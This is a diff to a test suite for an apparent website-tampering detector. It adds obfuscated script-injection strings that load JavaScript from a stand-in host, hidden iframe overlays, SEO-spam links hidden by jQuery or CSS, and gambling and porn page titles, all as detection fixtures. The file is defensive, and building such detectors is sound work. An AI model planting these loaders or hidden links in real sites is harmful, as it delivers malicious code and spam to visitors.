@@ -22,6 +22,11 @@ LOADERS = {
     "base 64": f"document.write(atob('{b64encode(TAG.encode()).decode()}'))",
     "packed": PACKED,
     "its name in pieces": "var a='scr',b='ipt';document.write('<'+a+b+' src=//qxw7.com/z.js></'+a+b+'>')",
+    "wide": "document.write(unescape('%u003cscript src=//qxw7.com/i.js%u003e%u003c/script%u003e'))",
+    "backwards": f"document.write(\"{TAG[::-1]}\".split('').reverse().join(''))",
+    "with a number after it": "var e=document.createElement('script');e.src='https://qxw7.com/s/z.js?v='+Math.random()",
+    "jQuery": "$.getScript('https://qxw7.com/u.js')",
+    "imported": "import('https://qxw7.com/p.js')",
     "appended": "(function(){var s=document.createElement('script');s.src='//qxw7.com/a.js';document.head.appendChild(s)})()",
     "by attribute": "var s=document.createElement('script');s.setAttribute('src','https://qxw7.com/a.js');document.body.append(s)",
 }
@@ -34,7 +39,7 @@ def test_code_that_loads_a_strangers_script(code: str) -> None:
 
 
 @pytest.mark.parametrize("address", [
-    "http://45.126.120.9/1.js", "http://45.126.120.9", "https://cdn.qxw7.com/a/3f9c1e.js", "//tongji.qxw7.xyz/stat.js",
+    "http://45.126.120.9/1.js", "http://45.126.120.9", "https://cdn.qxw7.com/a/3f9c1e.js", "https://qxw7.com/static/tj.js", "//tongji.qxw7.xyz/stat.js",
     "https://coinhive.com/lib/coinhive.min.js",
 ])  # fmt: skip
 def test_addresses_no_service_has(address: str) -> None:
@@ -85,6 +90,8 @@ LINKS = {
     "three of them, without a name": styled("display:none", THREE),
     "a paragraph of the text": f"<div class='content'><p style='visibility:hidden'>{SEO}</p></div>",
     "pinyin": styled("display:none", "<a href='http://www.abcd1.com/'>baijiale</a>"),
+    "folded by jQuery": f"<div class='z9'>{SEO}</div><script>$('.z9').hide();</script>",
+    "folded by its style": f"<div id='z9'>{SEO}</div><script>$('#z9').css('display','none');</script>",
     "a name nobody knows": styled("display:none", "<a href='http://www.abcd1.com/'>某某国际娱乐官网</a>"),
     "diplomas": styled("display:none", "<a href='http://www.abcd1.com/'>本科毕业证样本</a>"),
     "optimisers": f"<div class='list' style='display:none'>{THREE}<a href='http://www.qrst5.com/'>黑帽SEO</a></div>",
@@ -101,7 +108,7 @@ def test_links_out_of_sight_in_other_ways(block: str) -> None:
     f"<div class='m7' style='display:none'>{THREE}</div>",
     "<noscript><img src='https://qxw7.com/1.gif'><a href='https://qxw7.com/'>统计</a></noscript>",
     f"<div class='foot'><font color='#fff'>{SEO}</font></div>",
-    "<ul><li><a href='/1'>传奇私服案一审宣判</a></li><li><a href='/2'>竞彩足球投注站征召公告</a></li></ul>",
+    "<ul><li><a href='/1'>传奇私服案一审宣判</a></li><li><a href='/2'>竞彩足球投注站征召公告</a></li><li><a href='/3'>半岛体育公园开放</a></li></ul>",
 ])  # fmt: skip
 def test_what_was_once_suspected(block: str) -> None:
     assert page(block).tamper == ()
@@ -114,6 +121,20 @@ def test_a_frame_that_code_lays_over_the_page() -> None:
     assert page(f"<script>{code.replace('qxw7.com', 'sheng.gov.cn')}</script>").tamper == ()
 
 
+@pytest.mark.parametrize("tag", [
+    "<iframe src='https://qxw7.com/?h' style='width:0;height:0;border:none'></iframe>",
+    "<object data='http://qxw7.com/' style='position:fixed;top:0' width='100%' height='100%'></object>",
+])  # fmt: skip
+def test_what_is_as_good_as_a_frame(tag: str) -> None:
+    assert signs(page(tag)) == {Sign.FRAME}
+
+
+def test_numbers_in_a_list() -> None:
+    numbers = ",".join(str(ord(letter)) for letter in TAG)
+    assert signs(page(head=f"<script>var c=[{numbers}];document.write(String.fromCharCode.apply(null,c))</script>"))
+    assert page(head=f"<script>var c=[{'12,' * 40}3];x(String.fromCharCode(c[1]))</script>").tamper == ()
+
+
 def test_a_cloak_in_numbers() -> None:
     words = ("baidu", "referrer", "http://qxw7.com", "location")
     coded = ",".join("'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'" for word in words)
@@ -122,7 +143,15 @@ def test_a_cloak_in_numbers() -> None:
 
 
 @pytest.mark.parametrize(
-    "title", ["ＢＥＴ３６５备用网址", "真人娱樂-百家樂在線投註", "bеt365体育", "久久精品国产av麻豆"]
+    "title",
+    [
+        "ＢＥＴ３６５备用网址",
+        "真人娱樂-百家樂在線投註",
+        "bеt365体育",
+        "久久精品国产av麻豆",
+        "free porn videos",
+        "乐鱼全站app官网登录",
+    ],
 )
 def test_a_title_in_other_letters(title: str) -> None:
     assert signs(page(title=title)) == {Sign.TITLE}
